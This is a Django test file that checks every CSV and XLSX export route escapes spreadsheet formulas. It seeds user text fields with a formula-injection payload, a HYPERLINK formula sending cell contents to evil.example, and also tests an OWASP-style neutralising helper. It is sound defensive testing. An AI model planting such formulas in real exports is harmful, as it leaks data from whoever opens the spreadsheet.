"""The way out (issue 15): every CSV/XLSX export route, walked with text that a spreadsheet would
run as a formula in every user-written field, answers no cell that starts a formula."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from django.apps import apps
from django.db import models
from django.db.models import Value
from django.db.models.functions import Concat
from django.test import Client
from openpyxl import load_workbook

from cocreate.core import exports
from tests.test_permissions import _named_patterns, url_for, world  # noqa: F401 -- the shared world

PAYLOAD = '=HYPERLINK("http://evil.example/?"&A1,"x")'
TEXT_FIELDS = {"title", "text", "name", "description", "reason", "topic", "action", "touchpoint", "goal"}
# Every route that answers CSV or XLSX, with the query strings that choose the format.
EXPORT_ROUTES: dict[str, list[tuple[dict[str, str], str]]] = {
    "conversations_public:export": [
        ({"table": "comments", "fmt": "csv"}, ""),
        ({"table": "comments", "fmt": "xlsx"}, ""),
        ({"table": "votes", "fmt": "csv"}, ""),
        ({"table": "participants-votes", "fmt": "csv"}, ""),
    ],
    "journeys:export": [({}, "?table=steps"), ({}, "?table=contributions"), ({}, "?table=steps&format=xlsx")],
    # The world's commitment belongs to a private renewal (empty export); its alliance's published
    # log entry is public, so the payload reaches the open data through "log-entries".
    "open:export": [
        ({"fmt": "csv"}, ""),
        ({"fmt": "xlsx"}, ""),
        ({"dataset": "log-entries", "fmt": "csv"}, ""),
        ({"dataset": "log-entries", "fmt": "xlsx"}, ""),
    ],
    "readiness:answers_csv": [({"round_id": "closed_round_id"}, "")],
    "readiness:my_answers_csv": [({}, "")],
    "portfolio:ranking": [({}, "?format=csv")],
    "privacy:processing": [({}, "")],  # issue 24's record of processing: must write through core.exports
}


def test_every_export_route_is_walked() -> None:
    """A new export route (a name or pattern that says csv, xlsx or export) must join the walk."""
    found = {
        f"{ns}:{p.name}"
        for ns, p in _named_patterns()
        if any(w in f"{p.name} {p.pattern}" for w in ("csv", "xlsx", "export", "<str:fmt>", "<slug:fmt>"))
    }
    assert found - set(EXPORT_ROUTES) - {"panels:sample_pool"} == set()  # a static sample file


def _poison() -> None:
    for model in apps.get_models():
        if not model.__module__.startswith("cocreate."):
            continue
        for field in model._meta.get_fields():
            if (
                isinstance(field, models.CharField | models.TextField)
                and field.name in TEXT_FIELDS
                and not field.choices
            ):
                model._default_manager.update(**{field.name: Concat(Value(PAYLOAD), field.name)})


def cells_of(response: Any) -> list[str]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    if response["Content-Type"] == exports.XLSX_TYPE:
        sheet = load_workbook(io.BytesIO(body), read_only=True).active
        return ["" if c is None else str(c) for row in sheet.iter_rows(values_only=True) for c in row]
    return [cell for row in csv.reader(io.StringIO(body.decode("utf-8"))) for cell in row]


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.mark.django_db
def test_formula_cells_are_neutralised_on_every_export_route(world: dict[str, Any]) -> None:  # noqa: F811
    _poison()
    client = Client()
    client.force_login(world["users"]["org_admin"])
    neutralised: dict[str, int] = {}
    for name, variants in EXPORT_ROUTES.items():
        for overrides, query in variants:
            kwargs = {**world["kwargs"], **{k: v for k, v in overrides.items() if k not in ("round_id",)}}
            url = url_for(
                name, kwargs, {"round_id": overrides["round_id"]} if "round_id" in overrides else None
            )
            response = client.get(url + query)
            assert response.status_code == 200, (url + query, response.status_code)
            assert response["Content-Type"].startswith(("text/csv", exports.XLSX_TYPE)), url + query
            for cell in cells_of(response):
                dangerous = cell.startswith(exports.FORMULA_PREFIXES) and not _is_number(cell)
                assert not dangerous, (url + query, cell)
                if cell.startswith("'" + PAYLOAD):
                    neutralised[name] = neutralised.get(name, 0) + 1
    # The payload did reach the exports of user-written text, neutralised.
    assert {"conversations_public:export", "journeys:export", "open:export", "portfolio:ranking"} <= set(
        neutralised
    ), neutralised


def test_neutralise_follows_owasp() -> None:
    for prefix in ("=", "+", "-", "@", "\t", "\r"):
        assert exports.neutralise(prefix + "1+1") == "'" + prefix + "1+1"
    assert exports.neutralise(-1) == -1 and exports.neutralise(2.5) == 2.5 and exports.neutralise(None) == ""
    assert exports.neutralise("plain, text") == "plain, text"
